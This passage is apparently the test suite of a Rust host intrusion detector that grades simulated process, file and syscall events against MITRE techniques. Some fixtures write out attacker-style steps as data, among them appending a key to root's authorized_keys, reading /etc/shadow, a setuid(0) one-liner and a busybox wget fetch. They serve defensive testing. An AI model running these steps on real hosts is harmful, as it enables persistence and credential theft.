            f.extend(h.feed_all([exec(ts, 7000 + i, 600, 0, "/usr/bin/ls", &["ls"]), exit(ts + 0.1, 7000 + i, 600)]));
        }
        assert!(h.a.learning_complete());
        assert!(f.iter().all(|x| x.kind != "rare_parent_child"), "{f:#?}");
        let f = h.feed(exec(200.0, 7100, 600, 0, "/usr/bin/ncat", &["ncat"]));
        let r = only(&f, "rare_parent_child");
        assert!((r.confidence - 0.3).abs() < 1e-6 && r.technique == "T1204", "{r:?}");
        let f = h.feed(exec(201.0, 7101, 600, 0, "/usr/bin/ncat", &["ncat"]));
        assert!(f.is_empty(), "seen once now: {f:#?}");
        // Round trip and merge: two instances' baselines add up.
        let saved = h.a.save().expect("state");
        let mut other = H::with(cfg.clone());
        login(&mut other);
        other.feed(exec(3.0, 8000, 600, 0, "/usr/bin/htop", &["htop"]));
        let saved2 = other.a.save().expect("state");
        let mut m = H::with(cfg);
        m.a.load(&saved);
        m.a.load(&saved2);
        assert!(m.a.learning_complete(), "one complete baseline completes learning");
        assert_eq!(m.a.pairs.count(b"bash", b"ls"), 30);
        assert_eq!(m.a.pairs.count(b"bash", b"ncat"), 2);
        assert_eq!(m.a.pairs.count(b"bash", b"htop"), 1);
        assert_eq!(m.a.pairs.count(b"sshd", b"bash"), 2);
        // Garbage state is ignored.
        m.a.load(&serde_json::json!({"pairs": "nope"}));
        m.a.load(&serde_json::json!(null));
        assert_eq!(m.a.pairs.count(b"bash", b"ls"), 30);
    }

    #[test]
    fn an_incomplete_saved_baseline_keeps_learning_and_time_jumps_do_not_end_it() {
        let cfg = ProcessConfig { rare_learn_s: 3600.0, ..ProcessConfig::default() };
        let mut h = H::with(cfg.clone());
        login(&mut h);
        // A capture with a jump of a year, and time going backwards.
        h.feed(exec(10.0, 7000, 600, 0, "/usr/bin/ls", &["ls"]));
        h.feed(exec(10.0 + 365.0 * 86400.0, 7001, 600, 0, "/usr/bin/ls", &["ls"]));
        h.feed(exec(5.0, 7002, 600, 0, "/usr/bin/ls", &["ls"]));
        assert!(!h.a.learning_complete());
        let saved = h.a.save().expect("state");
        assert_eq!(saved["complete"], serde_json::json!(false));
        let mut m = H::with(cfg);
        m.a.load(&saved);
        assert!(!m.a.learning_complete());
    }

    #[test]
    fn reading_shadow_by_an_unexpected_program_is_reported_and_pam_users_are_not() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 6000, 600, 0, "/usr/bin/python3.11", &["python3", "dump.py"]),
            open(10.1, 6000, 0, "python3", "/etc/shadow", 0o2000000),
            open(10.2, 500, 0, "sshd", "/etc/shadow", 0),
            open(10.3, 500, 0, "sshd", "/etc/passwd", 0),
            open(10.4, 6000, 0, "python3", "/etc/passwd", 0),
        ]);
        let x = only(&f, "sensitive_file_access");
        assert_eq!(x.technique, "T1003.008");
        assert!((0.6..0.7).contains(&x.confidence), "{x:?}");
        assert!(
            x.reason.contains("python3.11 (pid 6000, uid 0) read the password hashes in /etc/shadow"),
            "{}",
            x.reason
        );
        // An allowed name run from /tmp is not trusted.
        let f = h.feed_all([
            exec(11.0, 6100, 600, 0, "/tmp/sshd", &["sshd"]),
            open(11.1, 6100, 0, "sshd", "/etc/shadow", 0),
        ]);
        let x = only(&f, "sensitive_file_access");
        assert!(x.confidence > 0.7, "{x:?}");
    }

    #[test]
    fn writes_to_authorized_keys_sudoers_and_passwd_are_high() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 6200, 600, 0, "/usr/bin/bash", &["bash", "-c", "echo k >> /root/.ssh/authorized_keys"]),
            open(10.1, 6200, 0, "bash", "/root/.ssh/authorized_keys", 0o2000 | 0o1 | 0o100),
            open(10.2, 6200, 0, "bash", "/etc/sudoers.d/zz", 0o1 | 0o100 | 0o1000),
            open(10.3, 6200, 0, "bash", "/etc/passwd", 0o2 | 0o2000),
            open(10.4, 6200, 0, "bash", "/root/.ssh/id_ed25519", 0),
            open(10.5, 6200, 0, "bash", "/root/.ssh/known_hosts", 0),
            open(10.6, 6200, 0, "bash", "/root/.ssh/id_ed25519.pub", 0),
        ]);
        let techs: Vec<(&str, f32)> = f.iter().map(|x| (x.technique, x.confidence)).collect();
        assert_eq!(techs, vec![("T1098.004", 0.85), ("T1548.003", 0.85), ("T1136.001", 0.8), ("T1552.004", 0.6)]);
        assert!(f[..3].iter().all(|x| x.severity == Severity::High));
        // useradd writing passwd/shadow is its job.
        let f = h.feed_all([
            exec(20.0, 6300, 600, 0, "/usr/sbin/useradd", &["useradd", "bob"]),
            open(20.1, 6300, 0, "useradd", "/etc/passwd", 0o1 | 0o100),
            open(20.2, 6300, 0, "useradd", "/etc/shadow", 0o1 | 0o100),
        ]);
        assert!(f.is_empty(), "{f:#?}");
    }

    #[test]
    fn setuid_0_from_a_user_process_is_privilege_escalation_and_sudo_is_not() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 6400, 600, 1000, "/usr/bin/sudo", &["sudo", "-i"]),
            sys(10.1, 6400, 600, 1000, "sudo", SyscallKind::SetId, 105, [0, 0, 0, 0]),
            exec(11.0, 6500, 600, 1000, "/home/u/.cache/x/python3", &["python3", "-c", "import os; os.setuid(0)"]),
            sys(11.1, 6500, 600, 1000, "python3", SyscallKind::SetId, 105, [0, 0, 0, 0]),
            exec(12.0, 6600, 600, 1000, "/usr/local/bin/tool", &["tool"]),
            sys(
                12.1,
                6600,
                600,
                1000,
                "tool",
                SyscallKind::SetId,
                117,
                [u64::from(u32::MAX), 0, u64::from(u32::MAX), 0],
            ),
            sys(12.2, 6600, 600, 1000, "tool", SyscallKind::SetId, 117, [1000, 1000, 1000, 0]),
            sys(12.3, 6601, 600, 0, "rootd", SyscallKind::SetId, 105, [0, 0, 0, 0]),
            sys(12.4, 6602, 600, 1000, "tool2", SyscallKind::SetId, 113, [u64::MAX, u64::MAX, 0, 0]),
            sys(12.5, 6603, 600, 1000, "tool3", SyscallKind::SetId, 106, [0, 0, 0, 0]),
        ]);
        let p: Vec<(u32, f32, Severity)> =
            f.iter().map(|x| (x.entities.pid.unwrap_or(0), x.confidence, x.severity)).collect();
        assert_eq!(p, vec![(6500, 0.9, Severity::High), (6600, 0.8, Severity::High), (6603, 0.5, Severity::Medium)]);
        assert!(f.iter().all(|x| x.kind == "privilege_escalation" && x.technique == "T1068"));
        assert!(f[1].reason.contains("called setresuid(-1, 0, -1) to become uid 0 from uid 1000"), "{}", f[1].reason);
    }

    #[test]
    fn module_loads_are_graded_by_loader() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 6700, 600, 0, "/usr/sbin/modprobe", &["modprobe", "wireguard"]),
            sys(10.1, 6700, 600, 0, "modprobe", SyscallKind::ModuleLoad, 313, [3, 0, 0, 0]),
            exec(11.0, 6800, 2, 0, "/sbin/modprobe", &["/sbin/modprobe", "-q", "--", "rtnl-link-veth"]),
            sys(11.1, 6800, 2, 0, "modprobe", SyscallKind::ModuleLoad, 313, [3, 0, 0, 0]),
            exec(12.0, 6900, 600, 0, "/tmp/.r/ld", &["ld"]),
            sys(12.1, 6900, 600, 0, "ld", SyscallKind::ModuleLoad, 175, [0, 0, 0, 0]),
        ]);
        let m: Vec<(f32, Severity)> =
            f.iter().filter(|x| x.kind == "kernel_module_load").map(|x| (x.confidence, x.severity)).collect();
        assert_eq!(m, vec![(0.6, Severity::Medium), (0.4, Severity::Low), (0.9, Severity::High)]);
        assert!(f.iter().filter(|x| x.kind == "kernel_module_load").all(|x| x.technique == "T1547.006"));
    }

    #[test]
    fn bpf_by_a_foreign_process_is_sensor_tampering_and_systemd_is_allowed() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 1, 0, 0, "/usr/lib/systemd/systemd", &["/sbin/init"]),
            sys(10.1, 1, 0, 0, "systemd", SyscallKind::Bpf, 321, [5, 0, 0, 0]),
            exec(11.0, 7000, 600, 0, "/usr/bin/python3", &["python3", "x.py"]),
            sys(11.1, 7000, 600, 0, "python3", SyscallKind::Bpf, 321, [12, 0, 0, 0]),
            sys(11.2, 7000, 600, 0, "python3", SyscallKind::Bpf, 321, [12, 0, 0, 0]),
            sys(11.3, 7000, 600, 0, "python3", SyscallKind::Bpf, 321, [14, 0, 0, 0]),
            sys(11.4, 7000, 600, 0, "python3", SyscallKind::Bpf, 321, [2, 0, 0, 0]),
        ]);
        let b: Vec<(f32, &str)> = f.iter().map(|x| (x.confidence, x.technique)).collect();
        assert_eq!(b, vec![(0.7, "T1562.001"), (0.8, "T1562.001")]);
        assert!(f[1].reason.contains("bpf(MAP_GET_FD_BY_ID)"), "{}", f[1].reason);
        assert!(f.iter().all(|x| x.kind == "sensor_tamper_bpf" && x.severity == Severity::High));
    }

    #[test]
    fn ptrace_by_a_non_debugger_is_graded_and_debuggers_are_allowed() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 7100, 600, 0, "/usr/bin/gdb", &["gdb", "-p", "500"]),
            sys(10.1, 7100, 600, 0, "gdb", SyscallKind::Ptrace, 101, [16, 500, 0, 0]),
            exec(11.0, 7200, 600, 0, "/tmp/inj", &["inj"]),
            sys(11.1, 7200, 600, 0, "inj", SyscallKind::Ptrace, 101, [16, 500, 0, 0]),
            sys(11.2, 7200, 600, 0, "inj", SyscallKind::Ptrace, 101, [4, 500, 0x1000, 0x90]),
            sys(11.3, 7200, 600, 0, "inj", SyscallKind::Ptrace, 101, [4, 500, 0x1008, 0x90]),
            sys(11.4, 7200, 600, 0, "inj", SyscallKind::Ptrace, 101, [0, 0, 0, 0]),
            exec(12.0, 7201, 7200, 0, "/usr/bin/true", &["true"]),
            sys(12.1, 7200, 600, 0, "inj", SyscallKind::Ptrace, 101, [0x4206, 7201, 0, 0]),
        ]);
        let p: Vec<(f32, Severity)> =
            f.iter().filter(|x| x.kind == "ptrace").map(|x| (x.confidence, x.severity)).collect();
        assert_eq!(p, vec![(0.55, Severity::Medium), (0.7, Severity::Medium), (0.3, Severity::Low)]);
        let w = f.iter().find(|x| x.kind == "ptrace" && x.confidence == 0.7).expect("write");
        assert!(
            w.reason.contains("wrote into the memory or registers of sshd (pid 500), which it did not start"),
            "{}",
            w.reason
        );
    }

    #[test]
    fn hostile_input_does_not_panic_or_fire() {
        let mut h = H::new();
        let long = "/".repeat(300) + &"a".repeat(300);
        let binary = String::from_utf8_lossy(&[0xff, 0xfe, b'/', 0, 7, 0x1b]).into_owned();
        let mut evs = vec![
            exec(5.0, 0, 0, 0, "", &[]),
            exec(4.0, 1, 1, 0, &long, &[&long, &long]),
            exec(3.0, 2, 1, 0, &binary, &[&binary]),
            exec(2.0, u32::MAX, u32::MAX, u32::MAX, "/usr/bin/busybox", &["busybox"]),
            exec(1.0, 3, 2, 0, "/usr/bin/busybox", &["busybox", "wget", "http://x"]),
            connect(0.5, 3, 2, "busybox", "192.0.2.1", 80),
            sock_event(0, 4, 3, "x", None, 0, false),
            sys(0.0, 5, 4, 1000, "x", SyscallKind::SetId, 9999, [u64::MAX; 4]),
            sys(0.0, 5, 4, 1000, "x", SyscallKind::Ptrace, 101, [16, u64::MAX, 0, 0]),
            sys(0.0, 5, 4, 1000, "x", SyscallKind::Bpf, 321, [u64::MAX, 0, 0, 0]),
            open(0.0, 6, 0, "x", "", -1),
            open(0.0, 6, 0, "x", "etc/shadow", 0),
            exit(0.0, 0, 0),
        ];
        evs.push(Event::Exec(ExecInfo {
            ts_ns: u64::MAX,
            proc: Proc { pid: 9, ppid: 9, comm: [0xff; 16], ..Proc::default() },
            filename: Text::new(&[0u8; 300]),
            argv: Text::new(&[0xffu8; 300]),
        }));
        let f = h.feed_all(evs);
        // Only the hostile bpf() call is a finding (any bpf by a non-allowed process is).
        assert_eq!(kinds(&f), vec!["sensor_tamper_bpf"], "{f:#?}");
        assert!(f[0].reason.contains("bpf(unknown)"), "{}", f[0].reason);
    }

    #[test]
    fn memory_stays_bounded_under_a_hundred_thousand_processes() {
        let cfg = ProcessConfig { max_pids: 1024, rare_max_pairs: 512, rare_learn_s: 0.0, ..ProcessConfig::default() };
        let mut h = H::with(cfg);
        login(&mut h);
        for i in 0..100_000u32 {
            let ts = 10.0 + f64::from(i) * 0.001;
            let name = format!("/usr/bin/tool{i}");
            h.feed(exec(ts, 10_000 + i, 600, 0, &name, &["x"]));
            h.feed(exec(ts, 10_000 + i, 600, 0, "/bin/sh", &["sh", "-c", "x"]));
            h.feed(connect(ts, 10_000 + i, 600, "sh", "192.0.2.1", 80));
        }
        assert!(h.a.tracked_pids() <= 1024);
        assert!(h.a.stats().pairs <= 512);
        assert!(h.a.stats().pid_evictions > 0 && h.a.stats().pair_evictions > 0);
    }

    #[test]
    fn steady_state_emits_nothing() {
        let n = 4000;
        let evs = steady_events(2 * n);
        let mut h = H::new();
        let warm: Vec<Finding> = h.feed_all(evs[..n].iter().copied());
        assert!(warm.iter().all(|x| x.confidence <= 0.5), "{warm:#?}");
        assert!(h.a.learning_complete(), "learning ends within the warm-up");
        let f = h.feed_all(evs[n..].iter().copied());
        assert!(f.is_empty(), "{f:#?}");
    }

    #[test]
    fn absurd_sizes_and_windows_are_clamped_not_fatal() {
        let cfg = ProcessConfig {
            max_pids: usize::MAX,
            rare_max_pairs: usize::MAX,
            reverse_shell_window_s: f64::INFINITY,
            rare_learn_s: f64::NAN,
            cooldown_s: -1.0,
            service_depth: usize::MAX,
            ..ProcessConfig::default()
        };
        let mut h = H::with(cfg);
        login(&mut h);
        h.feed(exec(10.0, 9000, 600, 0, "/bin/sh", &["sh"]));
        assert!(h.a.tracked_pids() <= MAX_PIDS_CAP);
    }

    #[test]
    fn the_default_config_round_trips_through_toml() {
        let d = toml::Value::try_from(ProcessConfig::default()).expect("serialises");
        let back: ProcessConfig = d.try_into().expect("parses");
        assert_eq!(back.reverse_shell_window_s, 10.0);
        let e: Result<ProcessConfig, _> = toml::from_str("nonsense_key = 1");
        assert!(e.is_err());
    }
}
